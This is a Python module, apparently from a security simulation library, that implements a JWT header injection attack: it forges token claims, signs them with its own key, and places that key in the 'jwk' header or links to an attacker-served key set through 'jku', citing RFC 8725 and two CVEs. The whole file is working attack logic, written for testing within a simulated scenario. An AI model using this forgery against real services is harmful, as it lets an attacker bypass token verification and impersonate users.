"""Header injection: the header of a forged token contains its verification key, or the address of one."""

import json
from collections.abc import Mapping
from dataclasses import replace
from typing import Any, ClassVar

from simlib.attacks.base import JWKS_URI, Candidate, Handler, NotApplicable, Preparation, TokenAttack
from simlib.attacks.forged_claims import forge_claims, is_key_pair_algorithm
from simlib.scenario.effects import Context, Flow, Reply
from simlib.scenario.messages import HttpRequest
from simlib.tokens import SigningKey, generate_signing_key
from simlib.tokens.forging import sign_claims

OWN_KID = "attacker"


class HeaderInjection(TokenAttack):
    """Injects ``jwk`` and ``jku``, each under the known ``kid`` and under a new one."""

    name: ClassVar[str] = "header_injection"
    summary: ClassVar[str] = "forged claims, signed with a key that the header itself contains (jwk) or links to (jku)"
    source: ClassVar[str] = "RFC 8725 sections 2.9 and 3.10; CVE-2018-0114, CVE-2025-24976"
    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Rewrite the claims and sign them; `list_endpoints` serves the key set."""
        forged = yield from forge_claims(ctx, self.assets)
        if isinstance(forged, NotApplicable):
            return forged
        own = _generate_key(forged.algorithm if is_key_pair_algorithm(forged.algorithm) else "RS256")
        headers: dict[str, dict[str, Any]] = {"jwk": {"jwk": _remove_kid(own)}, "jku": {"jku": JWKS_URI}}
        return tuple(
            Candidate(
                f"{name}, kid {kid}",
                forged.seal(sign_claims(forged.claims, replace(own, kid=kid), typ=forged.typ, **more)),
            )
            for name, more in headers.items()
            for kid in (OWN_KID, forged.kid)
        )

    def list_endpoints(self) -> Mapping[str, Handler]:
        """Return the endpoint of the attacker's key set."""
        return {JWKS_URI: _serve_keys}


def _generate_key(algorithm: str) -> SigningKey:
    return generate_signing_key(algorithm, OWN_KID)


def _remove_kid(key: SigningKey) -> dict[str, str]:
    return {name: value for name, value in key.verification_key.jwk.items() if name != "kid"}


def _serve_keys(request: HttpRequest) -> Flow[Reply]:
    yield from ()
    keys = [dict(_generate_key(algorithm).verification_key.jwk) for algorithm in ("RS256", "ES256", "EdDSA")]
    return Reply(200, json.dumps({"keys": keys[:1]}).encode())
